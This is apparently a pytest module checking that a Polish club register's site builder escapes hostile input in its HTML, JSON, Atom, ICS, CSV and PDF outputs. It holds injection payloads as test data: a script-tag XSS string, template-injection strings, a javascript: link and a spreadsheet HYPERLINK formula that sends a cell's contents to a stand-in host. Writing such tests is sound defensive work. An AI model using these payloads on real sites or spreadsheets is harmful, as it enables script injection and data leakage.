"""Hostile text in the register reaches every output escaped, never executed (issue 9)."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader

from tests.registers import make_base
from tests.site_support import build_accepting

AS_OF = date(2026, 11, 22)
NAME = '<script>alert(1)</script> & „Klub” {{ 7*7 }} {% if 1 %}x{% endif %} *em* [a](javascript:x)'
OPERATOR = '=HYPERLINK("http://zly.example/?x="&A1,"kliknij")'


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = make_base(tmp_path_factory.mktemp("reg") / "register")
    kluby = root / "wojewodztwa" / "pomorskie" / "kluby.csv"
    rows = list(csv.reader(io.StringIO(kluby.read_text(encoding="utf-8"), newline="")))
    rows[1][1] = NAME
    rows[1][3] = OPERATOR
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    kluby.write_text(out.getvalue(), encoding="utf-8")
    dest = tmp_path_factory.mktemp("site") / "site"
    build_accepting(root, dest, AS_OF)
    return dest


def test_html_escapes_the_name_everywhere(site: Path) -> None:
    page = (site / "kluby" / "gdansk-przymorze" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; „Klub”" in page
    assert "{{ 7*7 }}" in page and "{% if 1 %}x{% endif %}" in page  # not run by Jinja
    assert "*em*" in page and "<em>em</em>" not in page  # not run by Markdown
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in text, path
        assert 'href="javascript:' not in text.lower(), path


def test_json_keeps_the_exact_string(site: Path) -> None:
    data = json.loads((site / "dane" / "pomorskie.json").read_text(encoding="utf-8"))
    assert NAME in json.dumps(data, ensure_ascii=False)
    index = json.loads((site / "assets" / "search-index.json").read_text(encoding="utf-8"))
    assert NAME in json.dumps(index, ensure_ascii=False)


def test_atom_parses_to_the_exact_string(site: Path) -> None:
    tree = ET.parse(site / "dane" / "pomorskie.atom")
    titles = [e.text or "" for e in tree.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(NAME in t for t in titles)


def test_ics_escapes_per_rfc5545(site: Path) -> None:
    raw = (site / "dane" / "pomorskie.ics").read_bytes().decode("utf-8")
    unfolded = raw.replace("\r\n ", "")
    assert "<script>alert(1)</script> & „Klub” {{ 7*7 }}" in unfolded
    assert "\r\n" in raw and "\n" not in raw.replace("\r\n", "")


def test_csv_neutralises_formulas(site: Path) -> None:
    text = (site / "dane" / "pomorskie.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert "'" + OPERATOR in cells
    assert OPERATOR not in cells
    assert NAME in cells


def test_pdf_prints_the_name_as_text(site: Path) -> None:
    pdf = PdfReader(site / "formularze" / "formularz-7-pomorskie.pdf")
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "alert(1)" in text
    raw = (site / "formularze" / "formularz-7-pomorskie.pdf").read_bytes()
    assert b"/JavaScript" not in raw
